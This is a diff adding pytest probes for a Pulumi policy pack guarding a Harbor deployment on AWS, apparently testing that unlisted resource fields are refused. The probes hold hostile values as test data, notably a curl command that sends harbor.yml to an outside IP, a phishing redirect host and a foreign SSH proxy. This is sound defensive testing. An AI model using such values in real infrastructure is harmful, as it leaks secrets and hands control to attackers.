@@ -2942,3 +2942,91 @@ REVIEW22D_EGRESS_PROBES = [
     )
 ]
 PROBES += REVIEW22D_EGRESS_PROBES
+
+
+# ---------------------------------------------------------------------------------------------
+# Deny by default for fields (issue 22, after review 22c: EipAssociation.networkInterfaceId and Instance.ami were
+# fields no check read): a field outside policy/fields.py FIELDS, set to anything but what the provider's Check fills
+# (policy/provider_defaults.py), is refused by `only-the-programs-fields`, whatever the type's own check says.
+FIELDS_POLICY = "only-the-programs-fields"
+
+
+def set_field(resource_name: str, path: str, value, kind: str = "") -> Callable[[list[EngineResource]], list[EngineResource]]:
+    """The program's resource with the field `path` (`a.b`, `a[].b`: every element) set to `value`, through a secret
+    (the command's connection) as the engine marshals it."""
+
+    def put(props, parts: list[str]):
+        head, rest = parts[0], parts[1:]
+        if SECRET in props:
+            props = props["value"]
+        if not rest:
+            props[head] = value
+        elif head.endswith("[]"):
+            for item in props[head[:-2]]:
+                put(item, rest)
+        else:
+            put(props.setdefault(head, {}), rest)
+
+    return lambda stack: [changed(stack, resource_name, lambda p: put(p, path.split(".")), kind)]
+
+
+FIELD_PROBES = [
+    ("dev", set_field("harbor-vm-eip-association", "networkInterfaceId", "eni-0123456789abcdef0")),
+    ("dev", set_field("harbor-vm-instance", "ipv6Addresses", ["2001:db8::10"])),
+    ("dev", set_field("harbor-vm-instance", "secondaryPrivateIps", ["10.0.0.99"])),
+    ("dev", set_field("harbor-vm-instance", "placementGroup", "someone-elses-group")),
+    ("dev", set_field("harbor-vm-instance", "hostId", "h-0123456789abcdef0")),
+    ("dev", set_field("harbor-vm-instance", "sourceDestCheck", False)),  # the default is true
+    ("dev", set_field("harbor-vm-instance", "userDataReplaceOnChange", True)),
+    ("dev", set_field("harbor-vm-instance", "metadataOptions.instanceMetadataTags", "enabled")),
+    # An attacker's `__defaults` naming the field hides nothing (the pack accepts a default by its value only).
+    (
+        "dev",
+        lambda stack: [
+            changed(stack, "harbor-vm-instance", lambda p: p["rootBlockDevice"].update(throughput=1e3, __defaults=["throughput"]))
+        ],
+    ),
+    ("dev", set_field("harbor-vm-sg", "revokeRulesOnDelete", True)),  # harmless, but no field of the program's
+    ("dev", set_field("harbor-vm-sg", "ingress[].self", True)),
+    ("dev", set_field("harbor-vm-sg", "name", "default")),  # not the provider's autoname
+    ("dev", set_field("harbor-vm-role", "maxSessionDuration", 43200)),
+    ("dev", set_field("harbor-vm-role", "name", "OrganizationAccountAccessRole")),
+    ("dev", set_field("harbor-install-docker", "environment", {"REGISTRY_TOKEN": "x"})),
+    ("dev", set_field("harbor-install-docker", "connection.proxy", {"host": "203.0.113.9", "user": "ubuntu"})),
+    ("dev", set_field("harbor-install-docker", "connection.port", 2222)),  # the provider's default is 22
+    ("dev", set_field("harbor-install-docker", "delete", "curl -d @/etc/harbor/harbor.yml https://203.0.113.9/")),
+    ("dev", set_field("harbor-install-docker", "addPreviousOutputInEnv", True)),
+    ("ha", set_field("harbor-lb-https", "mutualAuthentication", {"mode": "passthrough"})),
+    ("ha", set_field("harbor-lb-alb", "enableDeletionProtection", True)),
+    ("ha", set_field("harbor-lb-http", "defaultActions[].redirect.host", "phish.example.net")),  # default "#{host}"
+    ("s3", set_field("harbor-data-db", "replicateSourceDb", "arn:aws:rds:eu-central-1:210987654321:db:theirs")),
+    ("s3", set_field("harbor-storage-bucket", "bucket", "acme-pulumi-state")),
+    ("s3", set_field("harbor-data-events", "name", "ops-alerts")),
+    ("dev", set_field("harbor-vm-host-key", "instance_ids", ["i-0123456789abcdef0"])),
+]
+
+
+@pytest.mark.parametrize("dry_run", [True, False], ids=["preview", "up"])
+def test_every_unlisted_field_probe_is_refused(stacks, dry_run):
+    """Each probe through Analyze at preview and at up: refused by the field rule, naming the field and the fix."""
+    passed = []
+    with running_pack(dry_run=dry_run, disabled=WITHOUT_AWS_LOOKUPS) as pack:
+        for label, build in FIELD_PROBES:
+            (probe,) = build(stacks[label])
+            found = [d for d in pack.analyze(probe) if d.policy == FIELDS_POLICY and d.mandatory]
+            if not found or "policy/fields.py FIELDS" not in found[0].message or probe.type not in found[0].message:
+                passed.append(f"{label}: {probe.name} {sorted(d.policy for d in pack.analyze(probe))}")
+    assert passed == []
+
+
+def test_the_programs_checked_inputs_with_the_providers_defaults_pass(stacks):
+    """What the engine hands Analyze is the provider's Check answer: the harness fills what the providers fill
+    (tests/standins/policy_engine.py checked_inputs), and the field rule accepts exactly that."""
+    instance = registration_of(stacks["dev"], "harbor-vm-instance").inputs
+    assert instance["sourceDestCheck"] is True and instance["rootBlockDevice"]["__defaults"] == []
+    assert "sourceDestCheck" in instance["__defaults"]
+    command = registration_of(stacks["dev"], "harbor-install-docker").inputs
+    assert command["connection"]["value"]["port"] == 22
+    with running_pack(dry_run=False, disabled=WITHOUT_AWS_LOOKUPS) as pack:
+        for label in ("dev", "ha", "s3"):
+            assert [d for r in stacks[label] for d in pack.analyze(r) if d.policy == FIELDS_POLICY] == []
